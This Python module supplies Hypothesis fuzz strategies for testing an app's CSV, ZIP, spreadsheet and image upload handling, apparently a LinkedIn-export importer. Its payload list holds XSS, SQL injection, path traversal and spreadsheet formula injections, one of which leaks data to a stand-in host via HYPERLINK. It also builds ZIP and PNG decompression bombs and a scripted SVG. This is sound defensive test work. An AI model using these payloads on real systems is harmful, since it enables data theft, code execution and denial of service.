"""Hypothesis strategies for hostile input: malformed, truncated, oversized, wrongly encoded and
attacking files and form values. Shared by the upload and form fuzz tests."""

from __future__ import annotations

import csv
import io
import posixpath
import struct
import zipfile
import zlib
from functools import cache

from hypothesis import strategies as st

XSS = "<script>alert('snowball-xss')</script>"
XSS_ATTRIBUTE = '"><img src=x onerror="alert(1)">'
# What must never come back unescaped in any page.
XSS_MARKERS = ("<script>alert('snowball-xss')", '<img src=x onerror="alert(1)">')

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your bonus")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    XSS,
    XSS_ATTRIBUTE,
    "javascript:alert(document.cookie)",
    "{{ request.user.password }}",
    "{% debug %}",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "\x00",
    "a\x00b",
    "\u202egnp.exe",
    "\ufeff",
    "' OR '1'='1' --",
    "Robert'); DROP TABLE programme_participant;--",
    "%s%s%s%n",
    "A" * 5000,
    "😀" * 300,
    "\U0001d54a\U0001d55f\U0001d560\U0001d568",  # look-alike letters
    "Zoë Ångström-Øster",
    "",
    " ",
    "NaN",
    "-1",
    "1e309",
    "99999999999999999999999",
    "2024-02-30",
    "0000-00-00 00:00:00",
    "9999-12-31 23:59:59 UTC",
]

hostile_text = st.one_of(
    st.sampled_from(PAYLOADS),
    st.text(max_size=40),
    st.text(alphabet=st.characters(codec="utf-8"), min_size=1, max_size=12),
)

ENCODINGS = ["utf-8", "utf-8-sig", "utf-16", "latin-1", "cp1252", "utf-32"]


@st.composite
def csv_bytes(draw: st.DrawFn, header: list[str], cell: dict[str, st.SearchStrategy]) -> bytes:
    """A CSV with the given columns (some dropped, renamed, repeated or shuffled), rows of mostly
    plausible cells with hostile ones mixed in, then encoded and perhaps damaged."""
    columns = list(header)
    if draw(st.booleans()):
        columns = draw(st.permutations(columns))
    if draw(st.integers(0, 9)) == 0:
        columns = columns[: draw(st.integers(0, len(columns)))]  # a missing column
    if draw(st.integers(0, 9)) == 0:
        columns.append(draw(hostile_text))  # an extra column, perhaps a hostile name
    plausible = {name: st.one_of(cell.get(name, hostile_text), hostile_text) for name in header}
    rows = draw(
        st.lists(
            st.fixed_dictionaries({name: plausible[name] for name in header}),
            max_size=draw(st.sampled_from([0, 3, 12, 40])),
        )
    )
    delimiter = draw(st.sampled_from([",", ";", "\t", "|"]))
    out = io.StringIO()
    writer = csv.writer(
        out,
        delimiter=delimiter,
        quoting=draw(st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL])),
        lineterminator=draw(st.sampled_from(["\r\n", "\n", "\r"])),
    )
    writer.writerow(columns)
    for row in rows:
        writer.writerow([row.get(name, "") for name in columns])
    text = draw(st.sampled_from(["", 'Notes:\n"A preamble LinkedIn adds"\n\n'])) + out.getvalue()
    data = text.encode(draw(st.sampled_from(ENCODINGS)), errors="replace")
    return draw(damaged(data))


@st.composite
def damaged(draw: st.DrawFn, data: bytes) -> bytes:
    """The bytes as they are, truncated anywhere, with junk spliced in, or replaced by junk."""
    how = draw(st.sampled_from(["intact", "intact", "intact", "truncated", "spliced", "junk"]))
    if how == "truncated" and data:
        return data[: draw(st.integers(0, len(data) - 1))]
    if how == "spliced":
        at = draw(st.integers(0, len(data)))
        return data[:at] + draw(st.binary(min_size=1, max_size=64)) + data[at:]
    if how == "junk":
        return draw(st.binary(max_size=2048))
    return data


# --- ZIP archives ---


@cache
def zip_bomb() -> bytes:
    """A small ZIP whose member expands 1,000 times (far past any real export's ratio)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("Shares.csv", b"Date,ShareLink\n" + b"0" * 20_000_000)
    return out.getvalue()


def lying_zip(member: str, content: bytes) -> bytes:
    """A ZIP whose directory claims a tiny size for a member that is really larger."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr(member, content)
    data = bytearray(out.getvalue())
    # Patch the central directory's uncompressed size (offset 24 in each entry) to 1 byte.
    central = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, central + 24, 1)
    return bytes(data)


MEMBER_NAMES = [
    "Shares.csv", "messages.csv", "Connections.csv", "Profile.csv", "Comments.csv",
    "Reactions.csv", "Invitations.csv", "export/Shares.csv", "Basic_LinkedInDataExport/Profile.csv",
    "../../../../tmp/Shares.csv", "/etc/Shares.csv", "C:\\Windows\\Shares.csv", "..\\Shares.csv",
    "Shares.csv/", "notes.txt", "Shares.csv\x00.exe", "😀.csv",
]  # fmt: skip


@st.composite
def zip_bytes(draw: st.DrawFn, members: dict[str, st.SearchStrategy]) -> bytes:
    """An export ZIP: known members with fuzzed CSVs, hostile member names, or a ZIP bomb."""
    special = draw(st.integers(0, 19))
    if special == 0:
        return zip_bomb()
    if special == 1:
        return lying_zip("Shares.csv", b"Date,ShareLink\n2024-03-04,https://x.example\n" * 50)
    out = io.BytesIO()
    names = draw(st.lists(st.sampled_from(MEMBER_NAMES), min_size=0, max_size=4, unique=True))
    method = draw(st.sampled_from([zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED]))
    with zipfile.ZipFile(out, "w", method) as archive:
        for name in names:
            base = name.replace("\\", "/").rsplit("/", 1)[-1].lower()
            content = draw(members[base]) if base in members else draw(st.binary(max_size=256))
            archive.writestr(name, content)
    return draw(damaged(out.getvalue()))


# --- Spreadsheets and images ---


@st.composite
def xlsx_bytes(draw: st.DrawFn) -> bytes:
    """A LinkedIn analytics workbook: an ENGAGEMENT sheet (or not) with hostile cells."""
    import openpyxl
    from openpyxl.utils.exceptions import IllegalCharacterError

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = draw(st.sampled_from(["ENGAGEMENT", "engagement ", "DISCOVERY", "<b>ENGAGEMENT"]))
    if draw(st.booleans()):
        sheet.append(["Overall Performance", "1/1/2024 - 3/31/2024"])
    headers = [
        ["Date", "Impressions", "Engagements"],
        ["Engagements", "Date"],
        [],
        ["date", "IMPRESSIONS", "engagements", "x"],
    ]
    sheet.append(draw(st.sampled_from(headers)))
    cell = st.one_of(
        st.sampled_from(["3/4/2024", "2024-03-05", "12", "1,204", "-5", "", None]),
        st.integers(-(10**12), 10**12),
        st.floats(allow_nan=True, allow_infinity=True),
        st.datetimes(),
        hostile_text.map(lambda text: text.replace("\x00", "")[:300] or None),
    )
    for row in draw(st.lists(st.lists(cell, max_size=4), max_size=20)):
        try:
            sheet.append(row)
        except (ValueError, TypeError, IllegalCharacterError):  # openpyxl refuses some itself
            continue
    out = io.BytesIO()
    workbook.save(out)
    return draw(damaged(out.getvalue()))


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_claiming(width: int, height: int) -> bytes:
    """A tiny valid-looking PNG whose header claims a huge canvas (a decompression bomb)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00" * 64)
    chunks = _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", pixels) + _png_chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunks


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'


@st.composite
def image_bytes(draw: st.DrawFn) -> bytes:
    from PIL import Image

    special = draw(st.integers(0, 9))
    if special == 0:
        return png_claiming(draw(st.sampled_from([50_000, 100_000, 2**31 - 1])), 50_000)
    if special == 1:
        return SVG
    if special == 2:
        return b"GIF89a" + draw(st.binary(max_size=64))
    mode = draw(st.sampled_from(["RGB", "RGBA", "L", "P", "CMYK", "1"]))
    fmt = draw(st.sampled_from(["JPEG", "PNG", "WEBP", "GIF", "BMP", "TIFF"]))
    if fmt == "JPEG" and mode in ("RGBA", "P"):
        mode = "RGB"
    image = Image.new(mode, (draw(st.integers(1, 48)), draw(st.integers(1, 48))))
    out = io.BytesIO()
    options = {}
    if fmt in ("JPEG", "WEBP", "PNG", "TIFF") and draw(st.booleans()):
        exif = Image.Exif()
        exif[0x010F] = "Camera of a seller"  # Make
        exif[0x0112] = draw(st.integers(1, 8))  # Orientation
        options["exif"] = exif.tobytes()
    try:
        image.save(out, fmt, **options)
    except (OSError, ValueError, KeyError):  # a mode the format cannot hold
        out = io.BytesIO()
        image.convert("RGB").save(out, fmt)
    return draw(damaged(out.getvalue()))


filenames = st.one_of(
    st.sampled_from(
        [
            "photo.jpg",
            "IMG_0001.PNG",
            "win.webp",
            "../../../etc/passwd.png",
            XSS + ".png",
            "a" * 300 + ".jpg",
            "no-extension",
            ".png",
            "photo.jpg.exe",
        ]
    ),
    st.text(min_size=1, max_size=30),
).map(lambda name: name if posixpath.basename(name.replace("\x00", "")).strip(". ") else "x")
# (a name with nothing left after its last slash never reaches a view: Django drops the file)
